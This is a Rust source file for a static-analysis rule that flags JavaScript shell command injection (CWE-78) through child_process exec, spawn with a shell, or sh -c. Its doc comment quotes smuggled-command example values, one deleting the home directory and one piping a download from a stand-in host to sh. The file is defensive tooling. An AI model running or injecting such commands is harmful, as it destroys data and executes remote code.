use crate::finding::Severity;
use crate::language::Language;
use crate::rule::{CallSite, Emitter, RuleMeta, Shape};
use crate::taint::Kind;

/// ## What it does
/// Finds shell commands built from variable parts and run through a shell: `child_process.exec`,
/// `execSync`, `spawn`/`execFile` with `shell: true`, or `spawn('sh', ['-c', cmd])`.
///
/// ## Why is this bad?
/// A file name such as `x; rm -rf ~` or `$(curl evil|sh)` becomes a second command: the shell parses
/// the whole string.
///
/// ## Example
/// ```javascript
/// exec('convert ' + input + ' ' + output, cb);
/// ```
///
/// Use instead:
/// ```javascript
/// execFile('convert', [input, output], cb);  // no shell: each argument stays one argument
/// ```
///
/// ## References
/// - [CWE-78](https://cwe.mitre.org/data/definitions/78.html)
pub static META: RuleMeta = RuleMeta {
    id: "js-command-injection",
    cwe: 78,
    severity: Severity::High,
    language: Language::JavaScript,
    summary: "shell command built from untrusted input",
};

/// Receivers `exec` is called on when it is `child_process`'s (not `RegExp#exec` or a database's).
const PROCESS_OBJECTS: &[&str] = &[
    "child_process",
    "cp",
    "child",
    "childProcess",
    "proc",
    "shell",
    "shelljs",
    "require(\"child_process\")",
    "require('child_process')",
];

fn is_shell_exec(call: &CallSite) -> bool {
    let name = call.name();
    if !matches!(name, "exec" | "execSync") {
        return false;
    }
    match call.callee.rsplit_once('.') {
        None => true,
        Some((recv, _)) => PROCESS_OBJECTS.contains(&recv) || recv.starts_with("child_process"),
    }
}

pub fn check(meta: &RuleMeta, call: &CallSite, out: &mut Emitter) {
    let name = call.name();
    let arg = if is_shell_exec(call) {
        call.positional(0)
    } else if matches!(name, "spawn" | "spawnSync" | "execFile" | "execFileSync") {
        let shell = call
            .keyword("shell")
            .is_some_and(|a| !matches!(a.value.shape, Shape::Bool(false)));
        let first = call.positional(0);
        let sh_c = first
            .and_then(|a| a.value.str_const())
            .is_some_and(|c| matches!(c, "sh" | "bash" | "/bin/sh" | "/bin/bash" | "cmd" | "cmd.exe" | "zsh"))
            && call
                .positional(1)
                .is_some_and(|a| a.text.contains("'-c'") || a.text.contains("\"-c\"") || a.text.contains("/c"));
        if sh_c {
            call.positional(1)
        } else if shell {
            first
        } else {
            None
        }
    } else {
        None
    };
    let Some(a) = arg else { return };
    let v = &a.value;
    if v.taint.reaches_weak(Kind::SHELL) && (v.taint.built || v.taint.user) {
        out.emit(
            meta,
            a.span,
            format!("shell command built from {}; run the program with `execFile`/`spawn` and an argument array, without a shell", v.taint.describe()),
        );
    }
}
